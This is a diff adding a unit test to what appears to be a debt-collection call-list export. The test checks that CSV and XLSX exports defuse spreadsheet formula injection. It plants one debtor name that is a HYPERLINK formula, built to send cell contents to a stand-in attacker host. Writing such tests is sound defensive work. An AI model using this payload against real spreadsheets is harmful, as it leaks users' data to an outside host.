@@ -76,3 +76,27 @@ def test_queue_is_cut_at_capacity_and_by_collector(capsys) -> None:
     assert buffer.getvalue().splitlines()[0] == ",".join(COLUMNS)
     # Nothing due on a day before the queue: an empty list, not an error.
     assert call_list(ON - timedelta(days=30)).rows == []
+
+
+def test_no_cell_of_the_call_list_runs_as_a_formula_in_a_spreadsheet(tmp_path, capsys) -> None:
+    from openpyxl import load_workbook
+
+    world = build_world(collectors=1)
+    debtor = add_debtor(world, 1, dpd=3)
+    debtor.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    debtor.save(update_fields=["name"])
+    run_nightly(ON)
+    out = tmp_path / "calls.csv"
+    call_command("export_call_list", "--date", ON.isoformat(), "--out", str(out))
+    with out.open(encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["debtor"] == "'" + debtor.name
+    assert rows[0]["phone"] == "13800010000"  # a number stays a number: a dialler reads it
+
+    book = tmp_path / "calls.xlsx"
+    call_command("export_call_list", "--date", ON.isoformat(), "--out", str(book))
+    sheet = load_workbook(book).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    assert sheet.cell(row=2, column=COLUMNS.index("debtor") + 1).value == "'" + debtor.name
